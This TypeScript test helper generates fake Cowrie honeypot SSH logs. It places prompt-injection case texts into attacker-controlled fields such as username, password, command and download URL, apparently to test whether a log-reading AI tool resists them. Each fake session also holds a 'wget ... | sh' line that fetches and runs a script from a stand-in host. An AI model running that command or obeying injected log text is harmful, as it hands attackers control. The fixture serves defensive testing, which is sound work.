import type { InjectionCase } from './cases.ts';

const startedAgoMs = 120_000;

export function sessionIdOf(index: number): string {
  return `case-${String(index).padStart(3, '0')}`;
}

/** A visit that is grave enough to be read, with the case's text in its carrier, as Cowrie writes it. */
export function linesOf({ carrier, text }: InjectionCase, index: number, sensor: string): string[] {
  const startMs = Date.now() - startedAgoMs;
  let second = 0;
  const base = {
    session: sessionIdOf(index),
    src_ip: `198.51.100.${index % 250}`,
    src_port: 4000 + index,
    protocol: 'ssh',
    sensor,
  };
  const line = (eventid: string, fields: object = {}) =>
    JSON.stringify({ ...base, eventid, ...fields, timestamp: new Date(startMs + second++ * 1000).toISOString() });
  const download = { url: `http://203.0.113.9/${index}.sh`, shasum: 'ab'.repeat(32), outfile: 'x' };
  return [
    line('cowrie.session.connect', { dst_ip: '192.0.2.1', dst_port: 2222 }),
    line('cowrie.client.version', { version: carrier === 'client' ? text : 'SSH-2.0-OpenSSH_9.2' }),
    line('cowrie.login.failed', {
      username: carrier === 'username' ? text : 'root',
      password: carrier === 'password' ? text : 'root',
    }),
    line('cowrie.login.success', { username: 'root', password: `root${index}` }),
    line('cowrie.command.input', { input: `wget http://203.0.113.9/${index}.sh -O- | sh` }),
    line('cowrie.command.input', { input: carrier === 'command' ? text : 'uname -a' }),
    ...(carrier === 'upload' ? [line('cowrie.session.input', { realm: 'cat', input: text })] : []),
    ...(carrier === 'file'
      ? [line('cowrie.session.file_upload', { filename: text, shasum: 'cd'.repeat(32), outfile: 'y' })]
      : []),
    line('cowrie.session.file_download', carrier === 'url' ? { ...download, url: text } : download),
    line('cowrie.session.closed', { duration_ms: 9000 }),
  ];
}
